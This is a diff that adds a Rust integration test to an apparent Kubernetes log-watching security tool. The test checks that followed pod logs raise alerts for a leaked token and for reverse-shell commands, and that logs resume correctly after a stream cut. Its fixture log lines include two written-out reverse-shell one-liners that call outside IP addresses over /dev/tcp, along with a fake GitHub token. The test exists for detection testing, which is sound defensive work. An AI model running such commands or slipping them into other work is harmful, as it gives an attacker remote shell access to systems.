@@ -1462,3 +1462,82 @@ fn kubernetes_events_are_watched_and_matched() {
     );
     promtool_check(exposition.split("\r\n\r\n").nth(1).unwrap());
 }
+
+/// `--pod-logs-namespace`: the running pods' containers are followed; a line printing a token
+/// alerts (named, never shown); a stream that ends (a restart) is followed again from its last
+/// line without repeating any.
+#[test]
+fn pod_logs_are_followed_across_a_cut() {
+    let api = kubevigil_testapi::TestApi::start().unwrap();
+    api.create_all([
+        json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "shop"}}),
+        json!({"apiVersion": "v1", "kind": "Pod",
+            "metadata": {"name": "web-0", "namespace": "shop", "labels": {"app": "web"}},
+            "spec": {"nodeName": "node-1", "containers": [{"name": "app", "image": "registry.example.com/web:1"}]},
+            "status": {"phase": "Running"}}),
+        json!({"apiVersion": "v1", "kind": "Pod",
+            "metadata": {"name": "batch-0", "namespace": "jobs"},
+            "spec": {"containers": [{"name": "job", "image": "registry.example.com/job:1"}]},
+            "status": {"phase": "Running"}}),
+    ])
+    .unwrap();
+    let token = ["ghp_", "Zx9vLm27RtKp4WzQ8nB3cD5eF7gH1jK2lM4n"].concat();
+    api.append_log(
+        "shop",
+        "web-0",
+        "app",
+        "2026-11-30T10:00:00.100000000Z",
+        "listening on :8080",
+    );
+    api.append_log(
+        "shop",
+        "web-0",
+        "app",
+        "2026-11-30T10:00:01.200000000Z",
+        &format!("deploying with GITHUB_TOKEN={token}"),
+    );
+    api.append_log(
+        "jobs",
+        "batch-0",
+        "job",
+        "2026-11-30T10:00:01.300000000Z",
+        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let kubeconfig = dir.path().join("kubeconfig");
+    api.write_kubeconfig(&kubeconfig, "shop-prod").unwrap();
+    let m = start(
+        &dir.path().join("state"),
+        &[
+            "--kubeconfig",
+            kubeconfig.to_str().unwrap(),
+            "--pod-logs-namespace",
+            "shop",
+        ],
+    );
+    let first = m.alerts.recv_timeout(Duration::from_secs(20)).unwrap();
+    assert_eq!(first["name"], "pod_log_credential", "{first}");
+    assert_eq!(first["action"]["namespace"], "shop");
+    assert_eq!(first["facts"]["log"]["container"], "app");
+    assert_eq!(first["facts"]["log"]["node"], "node-1");
+    assert!(!first.to_string().contains(&token));
+    // The stream ends; the line after the cut is read once the log is followed again.
+    api.cut_log_streams();
+    api.append_log(
+        "shop",
+        "web-0",
+        "app",
+        "2026-11-30T10:00:02.000000000Z",
+        "sh -i >& /dev/tcp/198.51.100.23/9001 0>&1",
+    );
+    let shell = m.alerts.recv_timeout(Duration::from_secs(20)).unwrap();
+    assert_eq!(shell["name"], "pod_log_reverse_shell_or_miner", "{shell}");
+    // Nothing from the namespace not followed, nothing repeated.
+    assert!(m.alerts.recv_timeout(Duration::from_secs(3)).is_err());
+    let (_, exposition) = http(&m.metrics, "GET", "/metrics", b"");
+    assert!(
+        exposition.contains("kubevigil_pod_log_lines_received_total 3"),
+        "{exposition}"
+    );
+    promtool_check(exposition.split("\r\n\r\n").nth(1).unwrap());
+}
